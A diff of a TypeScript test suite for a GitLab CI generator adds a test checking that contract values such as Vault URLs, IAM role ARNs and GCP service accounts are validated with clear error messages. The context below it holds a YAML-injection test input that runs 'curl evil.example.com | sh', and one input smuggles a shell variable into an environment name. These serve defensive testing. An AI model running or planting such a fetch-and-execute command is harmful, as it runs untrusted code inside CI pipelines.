@@ -264,6 +264,36 @@ describe("generated CI cannot be fooled", () => {
         );
     });
 
+    it("a contract's values are checked by the map's rules, with messages that say what was expected", () => {
+        const at = (key: string, project = "platform/api", grant = "deploy") => FIELDS.find((f) => f.key === key && (f.segments[0] !== "grants" || (f.segments[1] === project && f.segments[2] === grant)))!;
+        const cases: [Field, string, string][] = [
+            [at("grants.*.*.projectId"), "042", 'grants["platform/api"].deploy.projectId: must be the numeric GitLab project ID (Settings > General), e.g. 42, got "042"'],
+            [at("grants.*.*.conditions.environment"), "prod $X", 'grants["platform/api"].deploy.conditions.environment: must be an exact GitLab environment name of letters, digits, ".", "_", "-" and "/" (got "prod $X")'],
+            [at("grants.*.*.vault.roleName"), "Deploy", 'grants["platform/api"].deploy.vault.roleName: must be 1-128 lowercase letters, digits, "_", "-" and ".", starting and ending with a letter or digit, got "Deploy"'],
+            [at("grants.*.*.vault.serverUrl"), "http://vault.example.com", 'grants["platform/api"].deploy.vault.serverUrl: must use https (got "http://vault.example.com"): jobs send their tokens over it'],
+            [
+                at("grants.*.*.aws.roleArn"),
+                "arn:aws:iam::111111111111:role/x y",
+                'grants["platform/api"].deploy.aws.roleArn: in its role name: must be 1-64 characters of letters, digits and _+=,.@- (IAM role names), got "x y"',
+            ],
+            [
+                at("grants.*.*.gcp.serviceAccountEmail"),
+                'gl-platform-api--deploy@acme-ci.iam.gserviceaccount.com"',
+                'grants["platform/api"].deploy.gcp.serviceAccountEmail: must be a service account email, <account id>@<project>.iam.gserviceaccount.com, got "gl-platform-api--deploy@acme-ci.iam.gserviceaccount.com\\""',
+            ],
+            [
+                at("grants.*.*.gcp.providerResourceName"),
+                "//iam.googleapis.com/projects/1/locations/global/workloadIdentityPools/gitlab/providers/gitlab-example-com",
+                'grants["platform/api"].deploy.gcp.providerResourceName: in its project number: must be the numeric GCP project number, e.g. "123456789012", got "1"',
+            ],
+            [at("grants.*.*.conditions.refType"), "branches", 'grants["platform/api"].deploy.conditions.refType: Invalid option: expected one of "branch"|"tag", got "branches"'],
+            [at("vault.kvMount"), "sys", 'vault.kvMount: "sys" is reserved by Vault; choose another path such as "gitlab"'],
+        ];
+        for (const [field, text, problem] of cases) {
+            assert.deepEqual(generateCi(withField(field, text), { project: "platform/api", format: "yaml", source: SOURCE }), { problems: [`${SOURCE}: ${problem}`] }, problem);
+        }
+    });
+
     it("the binary: a contract file is checked before anything is written; a new line in a description stays a comment; duplicate keys are refused", () => {
         const tampered = clone(BASE) as Json;
         tampered.grants["platform/web"].deploy.description = "x\nevil:\n  script: [curl evil.example.com | sh]\n#";
